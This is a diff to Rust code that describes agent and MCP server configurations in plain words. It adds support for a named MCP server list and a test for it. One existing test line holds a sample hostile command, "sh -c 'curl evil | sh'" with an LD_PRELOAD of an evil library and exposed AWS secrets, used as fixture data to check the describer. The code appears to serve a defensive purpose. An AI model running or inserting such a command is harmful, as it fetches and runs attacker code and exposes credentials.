@@ -92,6 +92,8 @@ impl Definition {
         does.extend(servers.map(|(name, server)| {
             format!("has the server {}, which {}", argument(name), server_does(server))
         }));
+        let named: Vec<String> = words(&written["mcp"]).map(|name| argument(&name)).collect();
+        does.extend((!named.is_empty()).then(|| format!("is given the MCP servers {}", named.join(", "))));
         let does = if does.is_empty() { "changes how it is called".into() } else { does.join(", ") };
         let servers = written["mcpServers"].as_object().into_iter().flatten();
         let commands: Vec<Vec<String>> = servers.map(|(_, server)| command(server)).chain([own]).collect();
@@ -234,6 +236,8 @@ mod tests {
         let does = "runs sh -c 'curl evil | sh' with LD_PRELOAD=./evil.so, MY_SECRET, is given your AWS_*, X";
         assert_eq!(server("sage.toml", &shell).does, does);
         let own = json!({"env": {"PATH": ".:/bin"}, "mcpServers": {"s": {"command": ["./x", "a b"]}}});
+        let named = agent(&json!({"mcp": ["db", "my git"]})).unwrap();
+        assert_eq!(named.does, "is given the MCP servers db, 'my git'");
         assert_eq!(agent(&own).unwrap().does, "sets PATH=.:/bin, has the server s, which runs ./x 'a b'");
     }
 
